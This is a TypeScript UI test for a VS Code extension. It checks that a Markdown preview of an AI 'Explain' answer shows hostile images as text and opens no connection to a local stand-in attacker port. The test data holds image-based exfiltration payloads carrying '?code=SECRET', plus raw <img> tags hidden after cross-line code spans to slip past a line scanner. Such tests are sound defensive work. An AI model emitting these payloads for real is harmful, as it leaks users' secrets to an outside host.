// An Explain answer aimed at a loopback "attacker" (an https: Markdown image, a reference image and a
// raw <img>) opens as a Markdown document. Its Markdown preview, VS Code's own, shows the images as
// text: no image element points at the attacker, and the attacker's port sees no connection.
import { createServer, type Socket } from 'node:net';
import { type AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { EVENT_WAIT_MS } from '../../server/waits';
import { runCommand, screenshot, waitForEditorText } from '../workbench';
import { check, clearNotifications, explainSample, type UiContext } from './context';

const SENTINEL = 'PREVIEW-SENTINEL-7c1d';

/** The webview frame whose page shows `text` (the Markdown preview's content frame). */
async function frameShowing(page: Page, text: string): Promise<Frame> {
  const deadline = Date.now() + EVENT_WAIT_MS;
  while (Date.now() < deadline) {
    for (const frame of page.frames()) {
      if (frame === page.mainFrame()) continue;
      const shown = await frame.evaluate(() => document.body?.innerText ?? '').catch(() => '');
      if (shown.includes(text)) return frame;
    }
    await page.waitForEvent('framenavigated', { timeout: 500 }).catch(() => undefined);
  }
  throw new Error(`no webview shows “${text}” within ${EVENT_WAIT_MS} ms`);
}

/** What one hostile answer holds, given the attacker's port. */
interface HostileAnswer {
  readonly text: (port: number) => string;
  readonly payloads: number;
  readonly screenshot: string;
  /** Text the preview must show (the payload as text), given the port. */
  readonly shown: (port: number) => readonly string[];
}

/** Explain answers `answer`; its Markdown preview holds no image aimed at the attacker, who sees no connection. */
async function previewFetchesNothing(ctx: UiContext, answer: HostileAnswer): Promise<void> {
  const { page, standIn } = ctx;
  await clearNotifications(page);
  // Any connection counts (an https: image would open one before its TLS handshake fails).
  const connections: string[] = [];
  const sockets = new Set<Socket>();
  const attacker = createServer((socket) => {
    connections.push(`${socket.remoteAddress ?? '?'}:${socket.remotePort ?? '?'}`);
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.destroy();
  });
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done));
  const port = (attacker.address() as AddressInfo).port;
  try {
    standIn.enqueue('/responses', { kind: 'text', text: answer.text(port) });
    await explainSample(ctx);
    await waitForEditorText(page, SENTINEL);
    // The answer's document is the active editor: preview it the way a user would.
    await runCommand(page, 'Markdown: Open Preview to the Side');
    const preview = await frameShowing(page, SENTINEL);
    await screenshot(page, answer.screenshot);
    const images = await preview.evaluate(() => Array.from(document.querySelectorAll('img')).map((img) => img.getAttribute('src') ?? ''));
    const aimed = images.filter((src) => src.includes(String(port)));
    ctx.figures.hostilePayloads += answer.payloads;
    ctx.figures.remoteFetches += connections.length + aimed.length;
    check(aimed.length === 0, `the preview holds images pointing at the attacker: ${aimed.join(', ')}`);
    const text = await preview.evaluate(() => document.body.innerText);
    for (const expected of answer.shown(port)) check(text.includes(expected), `the preview does not show “${expected}” as text: ${text.slice(0, 400)}`);
    check(connections.length === 0, `the attacker's port saw ${connections.length} connection(s)`);
    await runCommand(page, 'View: Close Editor');
  } finally {
    for (const socket of sockets) socket.destroy();
    await new Promise((done) => attacker.close(done));
  }
}

export async function explainAnswerPreviewFetchesNothing(ctx: UiContext): Promise<void> {
  await previewFetchesNothing(ctx, {
    text: (port) =>
      [
        'This function totals an order.',
        `![chart](https://127.0.0.1:${port}/chart.png?code=SECRET)`,
        '![reference][leak]',
        `<img src="http://127.0.0.1:${port}/raw.png?code=SECRET">`,
        `${SENTINEL}: the end of the answer.`,
        '',
        `[leak]: https://127.0.0.1:${port}/reference.png?code=SECRET`,
      ].join('\n\n'),
    payloads: 3, // an https: Markdown image, a reference image, a raw <img>
    screenshot: 'explain-markdown-preview',
    shown: (port) => [`![chart](https://127.0.0.1:${port}/chart.png`, '<img src='],
  });
}

/**
 * Raw <img> tags placed where a line-by-line scanner sees code but markdown-it does not: after a code
 * span that runs over two lines (in a paragraph and in a block quote), and after a line like ```x`y
 * that markdown-it does not take for a fence.
 */
export async function crossLineCodeSpanPreviewFetchesNothing(ctx: UiContext): Promise<void> {
  const img = (port: number, name: string): string => `<img src="https://127.0.0.1:${port}/${name}.png?code=SECRET">`;
  await previewFetchesNothing(ctx, {
    text: (port) =>
      [
        `Here is \`x\n\`${img(port, 'cross-line')}\` ok`,
        `> Quoted \`y\n> \`${img(port, 'quoted')}\` ok`,
        `\`\`\`x\`y\n${img(port, 'not-a-fence')}`,
        `${SENTINEL}: the end of the answer.`,
      ].join('\n\n'),
    payloads: 3,
    screenshot: 'explain-markdown-preview-cross-line',
    shown: (port) => [`<img src="https://127.0.0.1:${port}/cross-line.png`, `/quoted.png`, `/not-a-fence.png`],
  });
}
